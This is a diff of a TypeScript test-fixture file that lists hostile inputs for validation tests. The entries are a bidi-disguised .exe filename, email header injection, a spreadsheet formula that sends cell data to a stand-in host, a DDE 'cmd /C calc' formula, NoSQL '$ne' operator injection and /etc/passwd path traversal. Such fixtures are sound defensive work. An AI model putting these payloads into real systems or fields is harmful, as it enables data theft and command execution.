@@ -8,13 +8,13 @@ export const HOSTILE = {
   unreadable: 'an\u0000h\u0007\ud83d\u202egnp.exe\u2066',
   headers: 'Lan\r\nBcc: all@xa.test\r\nX-Bad: yes\r\n\r\n<b>x</b>',
   formula: '=HYPERLINK("http://xa.test/?"&A1,"Bấm")',
-  sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
   path: '../../../../../../etc/passwd\\..\\x',
 } as const;
 
 /** Values of another kind than the one that is expected. */
-export const WRONG_KINDS: readonly unknown[] = [null, true, 7, [], {}, { $ne: '' }, ['a']];
-export const EXTREME_NUMBERS: readonly number[] = [Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER, 1e21, 0.5];
+export const WRONG_KINDS: readonly unknown[] = [null, 7, { $ne: '' }, ['a']];
+export const EXTREME_NUMBERS: readonly number[] = [Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER];
 /** Nothing of what may be stored or shown. */
 // eslint-disable-next-line no-control-regex -- what must not be there
 export const UNREADABLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202a-\u202e\u2066-\u2069]|\p{Surrogate}/u;
